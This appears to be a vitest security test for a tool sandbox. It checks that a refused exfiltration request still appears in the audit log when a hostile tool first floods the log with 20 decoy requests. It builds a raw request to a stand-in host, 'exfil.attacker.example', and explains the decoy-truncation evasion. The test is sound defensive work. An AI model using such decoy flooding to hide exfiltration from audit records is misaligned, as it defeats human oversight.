// Adversary 2 (a hostile tool author) against the record of what the sandbox refused. README
// "Sandboxes": the egress proxy's refusals "are recorded in the parent, whatever the child
// claims". They are — into the call's list of violations — but the call's `security_event`
// keeps the first 20 of that list and nothing says more were dropped
// (`violationsEvent`: `violations.slice(0, 20)`). A tool that first asks for 20 decoy hosts has
// its real attempt (here: an exfiltration host, the 21st) refused but missing from the audit
// log; so is anything reported after them (the post-call set-id sweep reports after the call).
import { rmSync } from 'node:fs';
import { afterAll, expect, it } from 'vitest';
import { IsolatedProcessSandbox } from '../../src/sandbox/index.js';
import { attackJail, runHostileTool } from '../support/attack-targets.js';
import { describeIsolated } from '../support/isolation.js';
import { rawEgress } from './fixtures/repass-probe-tools.js';

const { base, jail } = attackJail('veridex-repass-audit-');
afterAll(() => rmSync(base, { recursive: true, force: true }));

describeIsolated('a hostile tool against the audit record of its refused requests', () => {
  it('cannot push a refused request out of the security event with decoy refusals', async () => {
    const box = new IsolatedProcessSandbox({ jailRoot: jail, timeoutMs: 30_000 });
    const get = (host: string) =>
      `GET https://${host}/ HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n`;
    const requests: Record<string, string> = {};
    for (let decoy = 1; decoy <= 20; decoy++)
      requests[`decoy${decoy}`] = get(`decoy-${decoy}.invalid`);
    requests.exfiltrate = get('exfil.attacker.example');
    try {
      const { result, securityEvents } = await runHostileTool(box, rawEgress, {
        requests,
        waitMs: 5_000,
      });
      expect(result).toMatchObject({ status: 'success' });
      const answers = JSON.parse((result as { output: { result: string } }).output.result);
      // Every request, the real one included, was refused by the proxy (nothing left the host).
      expect(answers.exfiltrate).toEqual(['HTTP/1.1 403']);
      const recorded = JSON.stringify(securityEvents);
      expect(recorded).toContain('decoy-1.invalid');
      // Today: only the 20 decoys are in the audit log.
      expect(recorded, 'the refused exfiltration host in the audit log').toContain(
        'exfil.attacker.example',
      );
    } finally {
      box.close();
    }
  }, 60_000);
});
